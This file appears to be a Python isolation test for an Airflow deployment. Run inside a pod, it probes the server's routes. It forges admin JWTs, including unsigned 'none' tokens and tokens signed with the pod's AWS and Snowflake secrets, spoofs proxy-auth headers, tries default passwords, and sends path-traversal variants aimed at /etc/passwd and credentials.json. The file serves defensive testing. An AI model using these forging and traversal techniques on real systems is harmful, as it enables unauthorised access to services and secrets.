"""Run in a pod: asks Airflow's server for every route it has, with nothing and with what the pod's keys could make.

`python -m tests.local.isolation.attack_airflow '{"url": "http://…", "routes": [["GET", "/api/v2/dags"]]}'`. Prints as
JSON what was answered, never what was in it. Needs nothing but Python.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import http.client
import json
import os
import sys
import time
from collections.abc import Iterator
from urllib.parse import urlsplit

PUBLIC = ("/api/v2/monitor/health", "/api/v2/version", "/api/v2/auth/login", "/api/v2/auth/logout", "/execution/health",
          "/execution/health/ping")  # fmt: skip
"""What Airflow answers everybody: whether it is well, its version, and where the login is."""
OWN = ("AWS_SECRET_ACCESS_KEY", "AWS_ACCESS_KEY_ID", "DBT_ENV_SECRET_SNOWFLAKE_PRIVATE_KEY")
TRICKS = (
    "//api/v2/dags", "/./api/v2/dags", "/api/v2/../v2/dags", "/static/../api/v2/dags", "/api/v2/version/../dags",
    "/api/v2/%64ags", "/api/v2/dags/", "/api/v2/monitor/health/../../connections", "/API/v2/dags", "/api/v2/dags;x=1",
    "/api/v2/version%2f..%2fconnections", "/execution/connections/snowflake_flights_loader",
    "/execution/connections/kubernetes", "/execution/variables/x", "/execution/xcoms/flights/x/y/z",
    "/execution/health/../connections/kubernetes", "/logs/dag_id=flights", "/static/../../credentials.json",
    "/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/static//etc/passwd",
)  # fmt: skip


def _part(value: object) -> str:
    return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")


def forged(algorithm: str, secret: str, **claims: object) -> str:
    """A token as Airflow's login makes them, signed with what the pod has, or not at all."""
    now = int(time.time())
    body = {"sub": "admin", "role": "admin", "iss": "airflow", "aud": "apache-airflow", "iat": now, "nbf": now,
            "exp": now + 600} | claims  # fmt: skip
    signed = f"{_part({'alg': algorithm, 'typ': 'JWT'})}.{_part(body)}"
    if algorithm == "none":
        return f"{signed}."
    digest = {"HS256": hashlib.sha256, "HS512": hashlib.sha512}[algorithm]
    mac = hmac.new(secret.encode(), signed.encode(), digest).digest()
    return f"{signed}.{base64.urlsafe_b64encode(mac).decode().rstrip('=')}"


def logins() -> Iterator[dict[str, str]]:
    values = [os.environ[name] for name in OWN]
    tokens = [*values, *(forged("HS512", value) for value in (*values, "", "secret")), forged("none", ""),
              forged("HS256", values[0]), forged("HS512", values[0], aud="urn:airflow.apache.org:task")]  # fmt: skip
    for token in tokens:
        yield {"Authorization": f"Bearer {token}"}
        yield {"Cookie": f"_token={token}"}
    for value in values:
        yield {"Authorization": f"Basic {base64.b64encode(f'admin:{value}'.encode()).decode()}"}
    yield {"X-Forwarded-User": "admin", "X-Remote-User": "admin", "REMOTE_USER": "admin"}


def status(address: str, method: str, path: str, headers: dict[str, str], body: object) -> tuple[int, bytes]:
    """Status and content: for a path that it does not know the server answers with the page that asks for a login."""
    host = urlsplit(address)
    connection = http.client.HTTPConnection(str(host.hostname), host.port, timeout=20)
    try:
        content = None if body is None else json.dumps(body)
        connection.request(method, path, content, {"Content-Type": "application/json"} | headers)
        answer = connection.getresponse()
        return answer.status, answer.read()
    finally:
        connection.close()


def main() -> None:
    known = json.loads(sys.argv[1])
    answered, failed, tried = [], [], 0
    every = list(logins())
    _, page = status(known["url"], "GET", "/", {}, None)
    attempts: list[tuple[str, str, dict[str, str], object]] = []
    for number, (method, path) in enumerate(known["routes"]):
        body = {} if method in ("POST", "PUT", "PATCH") else None
        attempts.append((method, path, {}, body))
        attempts.append((method, path, every[number % len(every)], body))
    for headers in every:
        attempts += [("GET", path, headers, None) for path in ("/api/v2/connections", "/api/v2/dags", "/ui/config")]
    for headers in ({}, every[0]):
        attempts += [("GET", path, headers, None) for path in TRICKS]
    for password in (*(os.environ[name] for name in OWN), "admin", ""):
        for path in ("/auth/token", "/auth/token/cli"):
            attempts.append(("POST", path, {}, {"username": "admin", "password": password}))
    for method, path, headers, body in attempts:
        tried += 1
        found, content = status(known["url"], method, path, headers, body)
        name = f"{method} {path} with {next(iter(headers), 'nothing')}"
        if found >= 500:
            failed.append(f"{name}: {found}")
        elif found < 300 and path not in PUBLIC and content != page:
            answered.append(f"{name}: {found}")
    print("REPORT " + json.dumps({"answered": answered, "failed": failed, "tried": tried}))


if __name__ == "__main__":
    main()
